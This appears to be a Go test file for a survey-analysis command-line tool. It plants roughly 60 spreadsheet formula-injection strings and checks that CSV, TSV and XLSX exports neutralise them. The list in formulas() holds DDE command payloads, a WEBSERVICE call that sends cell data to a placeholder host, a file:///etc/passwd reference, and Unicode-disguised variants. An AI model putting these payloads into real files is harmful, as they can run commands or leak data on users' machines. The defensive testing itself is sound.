package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"servgap/importers/problem"
)

// formulas are 60 texts that a spreadsheet runs, or might: formulas and commands, behind
// what hides their sign, and behind signs that end a cell where others are expected.
func formulas() []string {
	all := []string{
		`=HYPERLINK("http://x.example","a")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`,
		`=DDE("cmd";"/C calc";"x")`, `=WEBSERVICE("http://x.example/"&A1)`, `=IMPORTXML("http://x.example","//a")`, `='file:///etc/passwd'#$x.A1`, "=[1]x!A1",
		"=1+1", "+1+2", "-1-3", "@A1", "|calc", "%0A=1", "＝1+1", "＋1+1", "－1+1", "＠A1",
		"{=1+1}", `"=1+1"`, "'=1+1", `"",=1+1`, "=1/0", "=A1:A1048576", "-", "=", "+47 22 33 44", "-5", "1e5", "#REF!", "TRUE",
		"x;=1+4", "x;=1+5;", "x,=1+6", "x,=1+7,", "x\t=1+8", "x\n=1+9", "x\r=1+10", "x\r\n+1+11\r\n", `x;"=1+12";`, `x,"@SUM(13)",`, "x; -1+14;", "x,\u00a0=1+15,",
		"-1;-2,-3", "price: 5;-kvalitet", "x;\u202f@1+16",
	}
	for i, before := range []string{" ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\u2003", "\u2028", "\x01", "\x1b"} {
		all = append(all, fmt.Sprintf("%s=2+%d", before, i))
	}
	return all
}

// runs reports whether a spreadsheet would run a cell of delimited text, or what it takes
// for one if other signs end cells in its language.
func runs(cell string) bool {
	if _, err := strconv.ParseFloat(strings.Replace(cell, ",", ".", 1), 64); err == nil {
		return false // a number
	}
	return slices.ContainsFunc(strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }), func(part string) bool {
		begins := strings.TrimLeftFunc(part, func(r rune) bool { return r == '"' || unicode.In(r, unicode.Zs, unicode.Cf) })
		return begins != "" && strings.ContainsRune("=+-@|%＝＋－＠", []rune(begins)[0])
	})
}

// cellsOf are the cells of delimited text, and of all sheets of a workbook.
func cellsOf(t *testing.T, file string) (cells []string) {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if strings.HasSuffix(file, ".xlsx") {
		return sheetCells(t, file, data)
	}
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	switch {
	case strings.HasSuffix(file, ".tsv"):
		in.Comma = '\t'
	case strings.HasSuffix(file, ".nordic.csv"):
		in.Comma = ';'
	}
	rows, err := in.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return slices.Concat(rows...)
}

// sheetCells fails on a cell that is no text and no number.
func sheetCells(t *testing.T, file string, data []byte) (cells []string) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	defer book.Close()
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		for y, row := range rows {
			for x, text := range row {
				name, _ := excelize.CoordinatesToCellName(x+1, y+1)
				formula, _ := book.GetCellFormula(sheet, name)
				link, _, _ := book.GetCellHyperLink(sheet, name)
				if kind, err := book.GetCellType(sheet, name); formula != "" || link || err != nil || kind == excelize.CellTypeError {
					t.Errorf("%s, %s %s: %q is of type %v", file, sheet, name, text, kind)
				}
			}
			cells = append(cells, row...)
		}
	}
	return cells
}

// tablesOf runs a command and gives the files that it wrote, of all endings if none is named.
func tablesOf(t *testing.T, folder, config string, command []string, endings ...string) (files []string) {
	t.Helper()
	if endings == nil {
		endings = []string{".csv", ".tsv", ".xlsx"}
	}
	if command[0] == "report" {
		endings = []string{".xlsx"}
	}
	args := []string{command[0], "-q", "-c", config}
	for _, ending := range endings {
		files = append(files, filepath.Join(folder, command[0]+ending))
		args = append(args, "-o", files[len(files)-1])
	}
	args = append(args, command[1:]...)
	if got := runLine(t, "", args...); got.code != ExitOK && got.code != ExitGate {
		t.Fatalf("%q: exit %d\n%s", command, got.code, got.err)
	}
	return files
}

// TestNoFormulaLeavesASurvey plants 60 texts that a spreadsheet would run and reads back
// every table that a command writes: none of its cells is run, the texts are all there,
// and negative numbers are numbers.
func TestNoFormulaLeavesASurvey(t *testing.T) {
	long(t)
	all := formulas()
	if len(all) < 60 {
		t.Fatalf("there are %d texts", len(all))
	}
	for some := range slices.Chunk(all, 20) {
		p := planting{labels: some, branches: some[:2], alone: some}
		p.checkTables(t, some, [][]string{
			{"analyze"}, {"gaps", "--items"}, {"step", "perceived"}, {"compare", "--items"}, {"trend"}, {"audit"}, {"priority"}, {"loyalty"}, {"drivers"},
			{"incidents"}, {"dissatisfied"}, {"explain", "service.d0"}, {"report"},
		})
	}
	for some := range slices.Chunk(all, 6) { // branches are compared in pairs, which takes its time
		p := planting{labels: some[:1], branches: some, alone: some}
		p.checkTables(t, some, [][]string{{"gaps", "--by", p.segment()}, {"units", "--", p.segment()}, {"dissatisfied", "--by", p.segment()}})
	}
	for turn := range all {
		p := planting{labels: all[:1], branches: all[:2], alone: all, turn: turn}
		p.checkTables(t, nil, [][]string{{"gaps", "--by", p.segment()}, {"audit"}}, ".csv")
	}
	t.Logf("S1: %d texts in every place of a survey, no live formula in csv, tsv and xlsx", len(all))
}

// checkTables reads back what the commands write of a project, and looks for some texts in it.
func (p planting) checkTables(t *testing.T, some []string, commands [][]string, endings ...string) {
	t.Helper()
	folder := t.TempDir()
	config := p.write(t, folder)
	var found []string
	for _, command := range commands {
		for _, file := range tablesOf(t, folder, config, command, endings...) {
			cells := cellsOf(t, file)
			found = append(found, cells...)
			checkCells(t, file, cells, slices.Concat(p.labels, p.branches, p.alone))
		}
	}
	for _, text := range some {
		if !slices.ContainsFunc(found, func(cell string) bool { return seen(cell) == seen(text) || seen(cell) == seen(problem.Clean(text)) }) {
			t.Errorf("%q is nowhere", text)
		}
	}
}

// checkCells fails on a cell that would be run, and on a number that is none any more.
func checkCells(t *testing.T, file string, cells, planted []string) {
	t.Helper()
	for _, cell := range cells {
		if !strings.HasSuffix(file, ".xlsx") && runs(cell) {
			t.Errorf("%s: %q is run", file, cell)
		}
		_, err := strconv.ParseFloat(strings.Replace(bare(cell), ",", ".", 1), 64)
		if err == nil && bare(cell) != cell && !slices.Contains(planted, bare(cell)) {
			t.Errorf("%s: %q is no number", file, cell)
		}
	}
}

// seen is what people see of a text: blanks of any kind are one, and none at its ends.
func seen(text string) string { return problem.Clean(strings.Join(strings.Fields(bare(text)), " ")) }

// bare is a text without the apostrophes that were put into it.
func bare(text string) string { return strings.ReplaceAll(text, "'", "") }
